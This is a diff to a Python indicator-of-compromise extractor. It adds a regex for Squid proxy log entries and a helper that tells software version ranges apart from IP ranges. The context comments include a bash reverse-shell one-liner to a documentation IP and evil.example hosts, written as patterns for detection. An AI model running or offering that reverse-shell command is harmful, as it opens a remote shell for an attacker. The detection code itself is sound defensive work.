@@ -43,6 +43,8 @@ _COMPOUNDS = (
     re.compile(rf"({_QUAD})/(?!(?:255|0)\.)({_QUAD})(?:/({_QUAD}))?", re.ASCII),
     # evil.example:203.0.113.5
     re.compile(rf"([a-z0-9][\w-]{{0,62}}(?:\.[\w-]{{1,63}}){{1,8}}):({_QUAD})", re.IGNORECASE),
+    # TCP_MISS/200 GET http://evil.example/a HIER_DIRECT/203.0.113.5: the asked server in Squid's log
+    re.compile(rf"(?:HIER_[A-Z_]{{3,24}}|DIRECT|[A-Z_]{{3,24}}_PARENT)/({_QUAD})", re.ASCII),
     # bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
     re.compile(r"/dev/(?:tcp|udp)/([\w.-]{4,253})/\d{1,5}", re.ASCII),
     # imphash:0f4c..    Domain:evil.example
@@ -85,6 +87,7 @@ HASH_NAMED_FILE = re.compile(rf"{_DIGEST}(?:[._-][\w.-]*)?", re.IGNORECASE | re.
 # 0f4c..:setup.exe
 _HASH_AND_NAME = re.compile(rf"{_DIGEST}[:/](?=[^:\s])", re.IGNORECASE | re.ASCII)
 _STARRED = re.compile(r"[0-9]{1,3}(?:\.[0-9]{1,3}){1,2}(?:\.\*){1,2}", re.ASCII)
+_ENDS = re.compile(_QUAD, re.ASCII)
 _RANGE = re.compile(r"[0-9]{1,3}(?:\.[0-9]{1,3}){3}-[0-9]{1,3}(?:\.[0-9]{1,3}){0,3}", re.ASCII)
 # evil.example:1604:secret
 _HOST_PORT_MORE = re.compile(r"([^/?#:\\]{1,253}:\d{1,5}):[^/:]")
@@ -145,6 +148,8 @@ def locate(text: str) -> Iterator[tuple[str, Found]]:
         else:
             label = refanged[max(0, match.start() - _LABEL_LENGTH) : match.start()]
             items = _email(text, label) if kind == "email" else _masked(text) if kind == "masked" else None
+            if kind == "range":
+                items = _range(text, refanged, match, written)
             yield from ((text, found) for found in items or _values(text))
 
 
@@ -176,6 +181,14 @@ def _masked(token: str) -> Iterator[Found]:
     except ValueError:
         yield from _values(first)
         yield from _values(mask)
+
+
+def _range(token: str, text: str, match: re.Match[str], written: str) -> list[Found]:
+    """Return the ends of a range that are versions of a program (`FortiOS 7.0.1.4 to 7.2.0.8`), or none."""
+    ends = [found for end in _ENDS.findall(token) for found in _values(end)]
+    judged = [_judge_word(found, text, match, written) for found in ends]
+    versions = all(isinstance(found, Refused) and found.reason == refusals.VERSION for found in judged)
+    return judged if versions else []
 
 
 def _email(token: str, before: str) -> Iterator[Found]:
